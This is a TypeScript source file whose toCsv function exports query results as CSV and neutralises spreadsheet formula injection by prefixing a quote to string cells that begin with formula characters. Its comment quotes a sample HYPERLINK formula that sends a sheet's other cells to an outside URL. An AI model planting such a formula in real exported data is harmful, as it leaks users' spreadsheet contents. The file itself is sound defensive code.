import type { QueryResult } from './types';

/**
 * A query result as CSV (RFC 4180) for a spreadsheet. Values come from
 * whoever wrote the states (attributes, actors, lock info), and a
 * spreadsheet runs a cell that begins with `=`, `+`, `-` or `@` (and, in
 * some, a tab or CR before one) as a formula: `=HYPERLINK("https://…?"&A1)`
 * sends the sheet's other cells away when clicked. So a text value that
 * begins with one of those gets a leading `'`, which spreadsheets show as
 * text; numbers and booleans are written as they are. `kl query --format
 * csv` is the exact data.
 */
export function toCsv(result: QueryResult): string {
  const field = (v: unknown) => {
    let s = v === null ? '' : typeof v === 'object' ? JSON.stringify(v) : String(v);
    if (typeof v === 'string' && FORMULA_START.test(s)) s = `'${s}`;
    return /[",\r\n]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s;
  };
  return [result.columns.map((c) => field(c.name)), ...result.rows.map((r) => r.map(field))]
    .map((line) => line.join(','))
    .join('\r\n')
    .concat('\r\n');
}

const FORMULA_START = /^[=+\-@\t\r]/;
